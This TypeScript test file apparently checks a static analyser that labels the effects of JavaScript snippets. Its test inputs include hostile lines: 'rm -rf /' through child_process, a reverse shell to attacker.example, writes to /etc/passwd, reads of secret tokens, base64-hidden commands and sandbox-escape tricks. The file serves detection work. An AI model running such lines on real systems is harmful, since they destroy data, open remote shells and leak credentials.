import assert from 'node:assert/strict';
import test from 'node:test';
import { describeReading } from './testing/describe-reading.ts';

test('understands code that only computes and prints', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['process.versions', 'ok'],
    ["console.log([1, 2, 3].map(x => x * 2).join(','))", 'ok'],
    ['console.log(`a${1 + 1}`)', 'ok'],
    ['function f(a) { return a + 1 } console.log(f(1))', 'ok'],
    ["let s='';process.stdin.on('data',d=>s+=d).on('end',()=>console.log(JSON.parse(s).version))", 'ok'],
    ["process.stdin.on('data', d => process.stdout.write(d))", 'ok'],
    ["console.log(require('os').cpus().length)", 'ok'],
    ["const path = require('path'); console.log(path.join('a', 'b'))", 'ok'],
    ["process.exit(+process.version.slice(1).split('.')[0] >= 18 ? 0 : 1)", 'ok'],
    ['console.log(Math.max(...[1, 2]), new Date().toISOString())', 'ok'],
    ["console.log('a b'.replace(/\\s+/g, '-'), 6 / 2 / 1)", 'ok'],
    ['new Promise(r => setTimeout(r, 100)).then(() => console.log(1))', 'ok'],
    ["const o = { a: 1, b: () => 2 }; console.log(o.b(), o['a'])", 'ok'],
    ['class A { constructor2() { return 1 } go(x) { return x } } console.log(new A().go(1))', 'ok'],
    ["console.log(require('crypto').randomBytes(16).toString('hex'))", 'ok'],
    ['(function () { console.log(1) })()', 'ok'],
    ["const { join, sep: s } = require('path'); console.log(join('a', s))", 'ok'],
    ['if (/a"b/.test(\'x\')) console.log("y")', 'ok'],
    ['console.log(process.env.HOME)', 'ok'],
    ["import { createHash } from 'node:crypto'; console.log(createHash('md5').update('a').digest('hex'))", 'ok'],
    ['for (const [k, v] of Object.entries({ a: 1 })) console.log(k, v)', 'ok'],
    ["console.log(String.fromCharCode(97, 98), Buffer.from('YQ==', 'base64').toString())", 'ok'],
    ['const o = { b: function () { return 2 } }; console.log(o.b())', 'ok'],
    ['console.log([1].with(0, 2), 0x10, 1e3, 0.5)', 'ok'],
    ['console.log(String.raw`a`)', 'ok'],
    ['process.exitCode = 1; module.exports = {}', 'ok'],
    ["import d from 'a/data.json'; console.log(new Map().get('a'))", 'ok'],
    ['#!/usr/bin/env node\nconsole.log(1)', 'ok'],
    ['const o = { in: 1 }; console.log(o.in / 2)', 'ok'],
    ["/[/]/.test('a')", 'ok'],
    ['const f = () => 1; console.log([1]?.[0], f?.(1), [...[1], 2])', 'ok'],
    ['a:', 'ok'],
    ['/* process.exit */ console.log(1 /* a */ + 2) // b', 'ok'],
    ['function* g() { yield 1 } console.log(g().next())', 'ok'],
    ['const a = []; for (let i = 0; i < 3; i++) a.push(i); console.log(a)', 'ok'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
});

test('notes files that are read, written, deleted and run', () => {
  const cases: readonly (readonly [string, string])[] = [
    ["require('./package.json').version", 'ok read=./package.json'],
    [
      "const fs = require('fs'); fs.writeFileSync('/etc/x', 'a'); fs.rmSync('dist', { recursive: true })",
      'ok write=/etc/x delete-tree=dist',
    ],
    ["import fs from 'fs'; fs.unlinkSync('a')", 'ok delete=a'],
    ["import * as f from 'node:fs/promises'; await f.rm('a')", 'ok delete=a'],
    ["import { writeFile as w } from 'fs/promises'; await w('a', 'b')", 'ok write=a'],
    [
      "const p = require('fs'); const j = JSON.parse(p.readFileSync('package.json', 'utf8')); j.v = 1; p.writeFileSync('package.json', JSON.stringify(j))",
      'ok read=package.json write=package.json',
    ],
    ["fs.readdirSync('.').forEach(f => fs.unlinkSync(f))", 'ok read=. delete=?'],
    ["const n = 'a' + '.txt'; require('fs').renameSync(n, `b.txt`)", 'ok delete=a.txt write=b.txt'],
    ["var a = require('fs'); a['unlink' + 'Sync']('z')", 'ok delete=z'],
    ["import('fs').then(fs => fs.rmSync('x'))", 'no delete=x'],
    ["console.log(require('./build/x.js').name)", 'ok script=./build/x.js'],
    ["import '@scope/package'", 'ok script=node_modules/@scope/package'],
    ["require('rimraf').sync('/')", 'no script=node_modules/rimraf'],
    ["Deno.removeSync('a', { recursive: true })", 'ok delete-tree=a'],
    [
      "console.log(process.env.NPM_TOKEN, process.env['AWS_SECRET_ACCESS_KEY'])",
      'ok secret=NPM_TOKEN secret=AWS_SECRET_ACCESS_KEY',
    ],
    ['console.log(process.env)', 'ok secret=?'],
    ["p = '/tmp/x'; [p] = ['/etc/passwd']; fs.writeFileSync(p, 'x')", 'ok write=?'],
    ["(p => fs.writeFileSync(p, 'x'))('/etc/passwd'); p = '/tmp/x'", 'ok write=?'],
    ["console.log(require('./x')[0])", 'ok script=./x'],
    ["fs.readFileSync(0, 'utf8'); fs.writeFileSync(1, 'x'); fs.unlinkSync(5)", 'ok delete=?'],
    ["import { default as f } from 'fs'; f.unlinkSync('a')", 'ok delete=a'],
    ["console.log(require('./x.json'))", 'ok read=./x.json'],
    ['const { API_TOKEN } = process.env; console.log(API_TOKEN)', 'ok secret=API_TOKEN'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
});

test('notes commands however they are run', () => {
  const cases: readonly (readonly [string, string])[] = [
    ["require('child_process').execSync('rm -rf /')", 'ok shell=rm -rf /'],
    ["const { execSync: e } = require('child_process'); e('id')", 'ok shell=id'],
    ["require('child_' + 'process').exec('ls')", 'ok shell=ls'],
    ["const cp = require('node:child_process'); cp.spawn('git', ['log', '-p', 'a b'])", "ok shell=git log -p 'a b'"],
    ["child_process.execFileSync('rm', ['-rf', '/'])", 'ok shell=rm -rf /'],
    ["import { exec } from 'child_process'; exec(`id`)", 'ok shell=id'],
    ["import cp, { spawn as s } from 'child_process'; s('id')", 'ok shell=id'],
    ["require('child_process').execSync(Buffer.from('aWQ=', 'base64').toString())", 'ok shell=id'],
    ["require('child_process').exec(process.argv[2])", 'ok shell=?'],
    ["require('child_process').spawn('ls', [], { shell: '/tmp/x' })", 'no shell=ls'],
    [
      'sh = require("child_process").spawn("/bin/sh"); require("net").connect(12345, "attacker.example", function () { this.pipe(sh.stdin); })',
      'no shell=/bin/sh connect=attacker.example',
    ],
    ["child_process.spawnSync('sleep', [5])", 'ok shell=sleep 5'],
    ["child_process.spawnSync('sleep', [010])", 'ok shell=?'],
    ['child_process.spawn()', 'ok'],
    ['Bun.spawn([])', 'no shell=?'],
    ["child_process.spawn('git', ['commit', '-m', ''])", "ok shell=git commit -m ''"],
    ["child_process.spawn('git', args)", 'no shell=git'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
});

test('looks into code that the code makes', () => {
  const cases: readonly (readonly [string, string])[] = [
    ["eval(\"require('fs').unlinkSync('x')\")", 'ok delete=x'],
    ["eval(Buffer.from('cmVxdWlyZSgiZnMiKS51bmxpbmtTeW5jKCJ4Iik=', 'base64').toString())", 'ok delete=x'],
    ["eval(atob('MSsx'))", 'ok'],
    ["new Function('return 1')()", 'no'],
    ['eval(process.argv[1])', 'no opaque=?'],
    ['vm.runInNewContext("1+1")', 'ok'],
    ["(function eval() {}); eval(\"require('fs').unlinkSync('x')\")", 'ok delete=x'],
    ["eval(\"require('fs').unlinkSync('x')\")\n{ }", 'ok delete=x'],
    ["const o = {}; o.class\neval(\"require('fs').unlinkSync('x')\")", 'ok delete=x'],
    ["get\neval(\"require('fs').unlinkSync('x')\")", 'ok delete=x'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
});

test('notes the network', () => {
  const cases: readonly (readonly [string, string])[] = [
    ["fetch('http://a.example').then(r => r.text()).then(console.log)", 'ok fetch=http://a.example'],
    ["fetch('http://a.example', { method: 'POST', body: 'x' })", 'ok upload=http://a.example'],
    ["require('https').get('https://a.example/x', r => r.pipe(process.stdout))", 'no fetch=https://a.example/x'],
    [
      'require("fs").createReadStream("/k").pipe(require("http").request("http://a.example/x"))',
      'no read=/k upload=http://a.example/x',
    ],
    ["new WebSocket('ws://a.example')", 'ok connect=ws://a.example'],
    ["client.get('http://a.example')", 'ok fetch=http://a.example'],
    ['net.connect(80)', 'no connect=?'],
    ["fetch(new URL('http://a.example/x'))", 'ok fetch=http://a.example/x'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
});

test('does not understand what leads out of plain data', () => {
  const cases: readonly (readonly [string, string])[] = [
    ["[].constructor.constructor('return process')()", 'no'],
    ['[]["filter"]["constructor"]("x")()', 'no'],
    ["global.process.mainModule.require('child_process').exec('id')", 'no'],
    ['this.constructor', 'no'],
    ['(() => this)().process', 'no'],
    ["['ls'].map(require('child_process').execSync)", 'no'],
    ["fetch('http://a.example').then(r => r.text()).then(eval)", 'no fetch=http://a.example'],
    ['if (1) /"/.test(x); evil() ; "/"', 'no'],
    ['f`x`', 'no'],
    ["const f = []['filter'][k][k]; f('code')", 'no'],
    ["\\u0065val('1')", 'no'],
    ["process.binding('spawn_sync')", 'no opaque=?'],
    ["Reflect.get(process, 'binding')", 'no'],
    ['console.log = eval', 'no'],
    ['const { eval: e } = globalThis', 'no'],
    ["setTimeout('code')", 'no'],
    ['x = 1 <!-- y', 'no'],
    ['import(name)', 'no opaque=?'],
    ["import('./evil.js')", 'ok script=./evil.js'],
    ["(await import('child_process')).execSync('id')", 'ok shell=id'],
    ["class A { static f = require('child_process').execSync }; A.f('id')", 'no'],
    ["var e = require('child_process').execSync; this.e('id')", 'no'],
    ["const f = console.log[k]; const g = f('code'); [1].map(g)", 'no'],
    ["(f = require('fs').unlinkSync) => f('x')", 'no delete=x'],
    ["const o = { f: () => 1 }; class B { static f = require('fs').unlinkSync }; B.f('x')", 'no'],
    ["Object.assign({}, require('fs')).unlinkSync('x')", 'no delete=x'],
    ["process[k]('x')", 'no'],
    ["undefinedFunction('x')", 'no'],
    ["process.getBuiltinModule('child_process').execSync('id')", 'no shell=id'],
    ["require('module')._load('child_process')", 'no opaque=?'],
    ["const { 'a': b } = require('fs')", 'no'],
    ["const { a = 1 } = require('fs')", 'no'],
    ["const { rmSync: r = 1, x } = require('fs'); r('a')", 'no delete=a'],
    ["var module = require('fs'); module.exports = 1", 'no'],
    ['with (console) log(1)', 'no'],
    ['require(...x)', 'no opaque=?'],
    ['require()', 'no opaque=?'],
    ['class A { #x = 1 }', 'no'],
    ["const x = 1; { } /a/.test('b')", 'no'],
    [')', 'no'],
    ['/a\n/', 'no'],
    ['/a', 'no'],
    ['"a\nb"', 'no'],
    ['a.#x', 'no'],
    ['import', 'no'],
    ["fs.unlinkSync('\\u{2f')", 'ok delete=?'],
    ["fs.unlinkSync('\\x", 'no delete=?'],
    ["fs.unlinkSync('\\", 'no delete=?'],
    ['console.log(1) /* a', 'no'],
    ['console.log(`${1 /* a */}`)', 'no'],
    ["setTimeout(fs.unlinkSync, 0, 'x')", 'no'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
});

test('follows a constant through what only changes its form', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['child_process.exec(String.fromCharCode(105, 100))', 'ok shell=id'],
    ['child_process.exec(String.fromCharCode(0xe9))', 'ok shell=?'],
    ['child_process.exec(String.fromCharCode(1.5))', 'ok shell=?'],
    ['child_process.exec(String.fromCharCode(x))', 'ok shell=?'],
    ["child_process.exec(Buffer.from('é', 'latin1').toString())", 'ok shell=?'],
    ["child_process.exec(Buffer.from('é').toString('latin1'))", 'ok shell=?'],
    ["child_process.exec(Buffer.from('é').toString('utf8'))", 'ok shell=é'],
    ["child_process.exec(Buffer.from('id', 'latin1').toString('ASCII'))", 'ok shell=id'],
    ["child_process.exec(Buffer.from('id').toString('base64'))", 'ok shell=?'],
    ["child_process.exec(Buffer.from('aWQ=', 'base64url').toString())", 'ok shell=id'],
    ["child_process.exec(Buffer.from('6964', 'hex').toString())", 'ok shell=id'],
    ["child_process.exec(Buffer.from('696', 'hex').toString())", 'ok shell=?'],
    ['child_process.exec(Buffer.from())', 'ok shell=?'],
    ['child_process.exec(Buffer.from([1]).toString())', 'ok shell=?'],
    ["fs.writeFileSync(path.resolve('a', '/etc/passwd'), 'x')", 'ok write=?'],
    ["fs.writeFileSync(util.format('%s', '/etc/passwd'), 'x')", 'ok write=?'],
    ["fs.unlinkSync('\\u{2f}etc')", 'ok delete=/etc'],
    ["fs.unlinkSync('\\u002e.\\/')", 'ok delete=../'],
    ["fs.unlinkSync('\\u2f')", 'ok delete=?'],
    ["fs.unlinkSync('\\u{110000}')", 'ok delete=?'],
    ["fs.unlinkSync('.\\env')", 'ok delete=?'],
    ["fs.unlinkSync('\\xe9')", 'ok delete=?'],
    ["fs.unlinkSync('a\\\nb')", 'ok delete=?'],
    ["child_process.exec(Buffer.from('id').toString(x))", 'ok shell=?'],
    ["fs.writeFileSync(new URL('file:///tmp/%2e%2e/etc/passwd'), 'x')", 'ok write=?'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
});

test('follows no constant that may be changed under any name', () => {
  const cases: readonly (readonly [string, string])[] = [
    ["const a = ['status']; child_process.spawn('git', a)", 'ok shell=git status'],
    ["const a = ['status']; const b = a; b.push('-c'); child_process.spawn('git', a)", 'no shell=git'],
    ["const a = ['status']; const b = a; b[0] = '-c'; child_process.spawn('git', a)", 'no shell=git'],
    ["const a = ['status'], b = [a]; b[0][0] = '-c'; child_process.spawn('git', a)", 'no shell=git'],
    ["const p = 'x'; ({ p })[0] = 1; fs.unlinkSync(p)", 'ok delete=x'],
    ["const f = function (a, b { }; fs.unlinkSync('x')", 'no delete=x'],
    ["let p='/tmp/x'; eval(\"p='/etc/passwd'\"); fs.writeFileSync(p,'')", 'no write=/tmp/x'],
    ["const p='/tmp/x'; { const p='/etc/passwd'; fs.writeFileSync(p,'') }", 'ok write=?'],
    ["const p='/tmp/x'; for (const p of ['/etc/passwd']) fs.writeFileSync(p,'')", 'ok write=?'],
    ["const p='/tmp/x'; try { throw '/etc/passwd' } catch (p) { fs.writeFileSync(p,'') }", 'ok write=?'],
    ["const p='/tmp/x'; const f = async p => fs.writeFileSync(p,''); f('/etc/passwd')", 'ok write=?'],
    ["const p='/tmp/x'; const f = async ({p}) => fs.writeFileSync(p,''); f({p:'/etc/passwd'})", 'ok write=?'],
    ["const p='/tmp/x'; const f = function({a: [p]}) { fs.writeFileSync(p,'') }; f({a:['/etc/passwd']})", 'ok write=?'],
    ["const o={p:'/tmp/x'}; o.p='/etc/passwd'; fs.writeFileSync(o.p,'')", 'ok write=?'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
});
